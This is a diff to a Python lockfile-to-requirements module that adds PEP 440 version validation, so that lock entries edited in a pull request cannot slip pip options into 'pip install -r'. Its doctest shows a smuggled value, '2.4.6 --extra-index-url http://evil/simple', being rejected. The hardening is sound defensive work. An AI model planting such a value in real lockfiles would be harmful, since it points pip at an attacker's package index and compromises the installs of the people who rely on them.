@@ -26,6 +26,9 @@ import re
 from importlib import metadata
 from typing import Iterable, Mapping
 
+from ..errors import LockfileError
+from ..redact import printable
+
 NOT_INSTALLED = "not installed"
 # dependency names as pip writes them (PEP 508 names); anything else is recorded as it is, quoted
 _DIST_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]*")
@@ -100,21 +103,46 @@ def environment_id(env: Mapping[str, str]) -> str:
 def differences(recorded: Mapping[str, str], current: Mapping[str, str]) -> list[str]:
     """``key old -> new`` for every field that differs (a field only one side has counts as ``(none)``)."""
     keys = sorted(set(recorded) | set(current))
-    return [f"{k} {recorded.get(k, '(none)')} -> {current.get(k, '(none)')}" for k in keys
-            if recorded.get(k) != current.get(k)]
+    return [printable(f"{k} {recorded.get(k, '(none)')} -> {current.get(k, '(none)')}") for k in keys
+            if recorded.get(k) != current.get(k)]  # lock text, shown escaped (reprohub.redact.printable)
 
 
-def requirements(envs: Iterable[Mapping[str, str]]) -> list[str]:
+def requirements(envs: Mapping[str, Mapping[str, str]]) -> list[str]:
     """pip requirement lines rebuilding the recorded stack: torch, numpy and each installed dependency.
 
+    ``envs``: environment id -> its recorded values (the lock's ``[environments]``).  Each name and version
+    comes from the lock, which a pull request can edit, and the lines go to ``pip install -r``: a version
+    must be a PEP 440 version and a name a distribution name, or nothing is printed.
+
+    Raises:
+        LockfileError: a value that is no version (``"1.0\\n--index-url ..."``), naming its entry.
+
     Example:
-        >>> requirements([{"torch": "2.13.0+cpu", "numpy": "2.4.6", "dep timm": "1.0.3", "dep models": "not installed"}])
+        >>> requirements({"e1": {"torch": "2.13.0+cpu", "numpy": "2.4.6", "dep timm": "1.0.3",
+        ...                      "dep models": "not installed"}})
         ['numpy==2.4.6', 'timm==1.0.3', 'torch==2.13.0']
+        >>> requirements({"e1": {"numpy": "2.4.6 --extra-index-url http://evil/simple"}})
+        Traceback (most recent call last):
+        ...
+        reprohub.errors.LockfileError: expected a PEP 440 version for numpy, found '2.4.6 --extra-index-url http://evil/simple' in [environments.e1] values.numpy. Fix: restore the entry from version control, or re-record it with --hub-update; nothing was printed
     """
     pins: dict[str, str] = {}
-    for env in envs:
-        for key, value in env.items():
+    for env_id, env in sorted(envs.items()):
+        for key, value in sorted(env.items()):
             name = {"torch": "torch", "numpy": "numpy"}.get(key) or (key[4:] if key.startswith("dep ") else None)
             if name and _DIST_NAME.fullmatch(name) and not value.startswith(NOT_INSTALLED):
-                pins.setdefault(name.lower(), value.split("+", 1)[0])  # a local build tag is no PyPI version
+                pins.setdefault(name.lower(), _release(name, value, f"[environments.{env_id}] values.{key}"))
     return sorted(f"{name}=={version}" for name, version in pins.items())
+
+
+def _release(name: str, value: str, where: str) -> str:
+    """``value`` as the PEP 440 version pip can find (a local build tag such as ``+cpu`` is no PyPI version)."""
+    from packaging.version import InvalidVersion, Version
+
+    try:
+        version = Version(value)
+    except InvalidVersion:
+        raise LockfileError(f"a PEP 440 version for {name}", f"{value!r} in {where}",
+                            "restore the entry from version control, or re-record it with --hub-update; "
+                            "nothing was printed") from None
+    return version.public
